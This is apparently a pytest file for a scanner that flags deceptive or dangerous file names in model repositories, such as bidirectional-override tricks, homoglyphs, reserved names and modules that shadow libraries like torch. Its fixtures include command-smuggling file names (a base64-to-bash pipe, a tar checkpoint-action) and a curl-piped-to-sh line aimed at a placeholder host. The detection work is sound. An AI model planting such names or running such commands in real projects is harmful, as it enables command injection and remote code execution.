"""File names: what they hide, what they do, and what they are taken for."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.analyzers.repository.whole_targets import judged, repository, told
from weighbridge.analyzers.file_names import name_findings
from weighbridge.analyzers.repository.names import judge
from weighbridge.bytesource.memory import MemorySource
from weighbridge.core.artifact import Artifact


def _rules(*path: str) -> list[str]:
    return [one.rule for one in name_findings(Artifact(path, MemorySource(b"")))]


@pytest.mark.parametrize(
    ("name", "rules"),
    [
        ("weights_\u202etxt.exe", ["NAM001"]),
        ("con\u200bfig.json", ["NAM002"]),
        ("tab\there.txt", ["NAM002"]),
        ("\x1b[2Jmodel.bin", ["NAM002"]),
        ("aux.txt", ["NAM005"]),
        ("COM1", ["NAM005"]),
        ("notes.", ["NAM005"]),
        ("model.bin:stream.exe", ["NAM005"]),
        ("latin-\udce9.txt", ["NAM005"]),
        ("model.safetensors.exe", ["NAM006"]),
        ("Invoice.PDF .LNK", ["NAM006"]),
        ("setup        .exe", ["NAM006"]),
        ("a`touch b`.png", ["NAM007"]),
        ("{echo,abc}|{base64,-d}|bash", ["NAM007", "NAM005"]),
        ("--checkpoint-action=exec=sh x", ["NAM007"]),
        ("-rf", ["NAM008"]),
        ("n" * 201, ["NAM009"]),
    ],
)
def test_a_name_is_told_for_what_it_does(name: str, rules: list[str]) -> None:
    assert _rules(name) == rules


@pytest.mark.parametrize(
    "name",
    [
        "model-00001-of-00002.safetensors",
        "pytorch_model.bin.index.json",
        "archive.tar.gz",
        "console.log",
        "auxiliary.txt",
        "\u0645\u062f\u0644.json",
        "\u05de\u05d5\u05d3\u05dc.json",
        "\u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.txt",
        "\u4e2d\u6587\u8bf4\u660e.md",
        "\U0001f469\u200d\U0001f4bb.png",
        "price $5 (net).txt",
        "a - b.txt",
        "run.bat",
        "Model.v1.2.exe",
        ".gitattributes",
        "__init__.py",
    ],
)
def test_an_ordinary_name_is_not_told(name: str) -> None:
    assert _rules(f"folder/{name}") == []


def test_what_lies_in_an_archive_is_named_by_the_archive() -> None:
    assert _rules("a.zip", "aux.txt") == []


@given(st.text(max_size=60))
def test_any_name_gives_findings_that_can_be_shown(name: str) -> None:
    found = name_findings(Artifact((name,), MemorySource(b"")))
    assert all(one.evidence.replace("\n", "").isprintable() for one in found)


def test_a_folder_is_told_once_on_its_first_file() -> None:
    files = {"a/nul/1.txt": b"", "a/nul/2.txt": b"", "a/nul/b/3.txt": b""}
    assert told(judge, files) == ["NAM005 a/nul/1.txt"]


def test_a_look_alike_beside_what_it_looks_like_is_told() -> None:
    files = {"note\u0455.txt": b"", "notes.txt": b""}
    assert told(judge, files) == ["NAM003 note\u0455.txt"]


def test_a_look_alike_of_what_loaders_open_is_told_alone() -> None:
    assert told(judge, {"c\u043enfig.json": b"{}"}) == ["NAM003 c\u043enfig.json"]


def test_a_word_of_another_script_is_no_look_alike() -> None:
    assert told(judge, {"\u0441\u043e\u0443\u0441.txt": b"", "config.json": b"{}"}) == []


@pytest.mark.parametrize("other", ["README.MD", "readme.md", "ReadMe.md"])
def test_names_that_differ_in_case_alone_collide(other: str) -> None:
    assert [one[:6] for one in told(judge, {"README.md": b"", other: b""})] == ["NAM004"]


def test_names_that_differ_in_composition_alone_collide() -> None:
    assert [one[:6] for one in told(judge, {"caf\u00e9.txt": b"", "cafe\u0301.txt": b""})] == ["NAM004"]


def test_the_same_name_in_two_folders_does_not_collide() -> None:
    assert told(judge, {"a/Notes.txt": b"", "b/notes.txt": b""}) == []


SCRIPT = b"import os, torch\n"
ACTS = b"import os\nos.system('curl https://example.invalid/marker | sh')\n"


def test_a_module_that_acts_in_the_place_of_a_library_is_told() -> None:
    assert told(judge, {"run.py": SCRIPT, "torch.py": ACTS}) == ["NAM010 torch.py"]


def test_a_package_that_acts_in_the_place_of_a_library_is_told() -> None:
    files = {"run.py": SCRIPT, "torch/__init__.py": ACTS}
    assert told(judge, files) == ["NAM010 torch/__init__.py"]


@pytest.mark.parametrize("module", ["torch.py", "torch.cpython-311-x86_64-linux-gnu.so", "torch.pyc"])
def test_a_module_in_the_place_of_a_library_is_told(module: str) -> None:
    assert told(judge, {"run.py": SCRIPT, module: b"x = 1\n"}) == [f"NAM011 {module}"]


def test_a_notebook_is_a_script_too() -> None:
    notebook = b'{"cells": [{"cell_type": "code", "source": ["import torch\\n"]}]}'
    assert told(judge, {"run.ipynb": notebook, "torch.py": b"x = 1\n"}) == ["NAM011 torch.py"]


@pytest.mark.parametrize(
    "files",
    [
        {"run.py": b"import torchvision\n", "torch.py": b""},
        {"torch.py": b"import torch\n"},
        {"p/__init__.py": b"", "p/run.py": b"import types\n", "p/types.py": b""},
        {"p/__init__.py": b"", "p/q/run.py": b"import types\n", "p/q/types.py": b""},
        {"run.py": b"from . import torch\n", "torch.py": b""},
        {"run.py": b"import utils\n", "utils.py": b""},
        {"setup.py": b"import yaml\n", "yaml/__init__.py": b""},
        {"a.py": b"import yaml\n", "yaml/__init__.py": b"", "PyYAML-6.dist-info/RECORD": b""},
        {"run.py": SCRIPT, "torch.md": b""},
        {"run.py": SCRIPT, "torch.utils.py": b""},
    ],
)
def test_what_no_import_finds_is_not_told(files: dict[str, bytes]) -> None:
    assert told(judge, files) == []


def test_a_library_that_nothing_names_is_told_beside_weights_alone() -> None:
    assert told(judge, {"m.safetensors": b"", "libx86.so": b""}) == ["NAM012 libx86.so"]
    assert told(judge, {"libx86.so": b""}) == []


def test_a_library_that_the_card_names_is_not_told() -> None:
    files = {"m.safetensors": b"", "lib/libx86.so": b"", "README.md": b"needs libx86.so"}
    assert told(judge, files) == []


def test_scripts_are_read_only_beside_a_module_that_shadows() -> None:
    reads: dict[str, list[tuple[int, int]]] = {}
    judged(judge, repository({"a/run.py": SCRIPT, "b/run.py": SCRIPT, "b/torch.py": b""}, reads=reads))
    assert sorted(reads) == ["b/run.py"]
